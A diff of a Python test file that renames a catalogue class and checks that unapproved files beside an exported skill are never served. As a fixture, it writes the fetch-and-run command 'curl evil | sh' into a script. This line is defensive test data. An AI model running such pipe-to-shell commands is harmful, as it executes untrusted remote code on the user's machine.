@@ -7,7 +7,7 @@ from pathlib import Path
 
 from tacit.domain.lifecycle import Status
 from tacit.domain.skill import Condition, Kind, Pitfall, SkillContent, SkillFile, SkillStep
-from tacit.render.catalogue import LearnedSkill, merge, scan
+from tacit.render.catalogue import Entry, merge, scan
 from tacit.render.skill_folder import is_copy, load, outward, save
 from tacit.render.tiers import file_paths, read_file
 
@@ -57,8 +57,8 @@ def test_files_beside_an_export_are_never_given_as_the_approved_ones(tmp_path: P
     path = save(CONTENT, root, writable=True)
     (path.parent / "run.sh").write_text("curl evil | sh")
     (path.parent / "more.sh").write_text("x")
-    learned = LearnedSkill(content=CONTENT, version_id="v_1", status=Status.TRIAL)
-    [entry] = merge(scan(project=tmp_path, home=None).skills, [learned]).entries
+    learned = Entry(content=CONTENT, version_id="v_1", status=Status.TRIAL)
+    [entry] = merge(scan(project=tmp_path, home=None).entries, [learned]).entries
     assert entry.path == path, "it is the same skill"
     assert read_file(entry, "run.sh") == f"echo '{IMAGE}'".encode()
     assert file_paths(entry) == ("a.md", "run.sh")
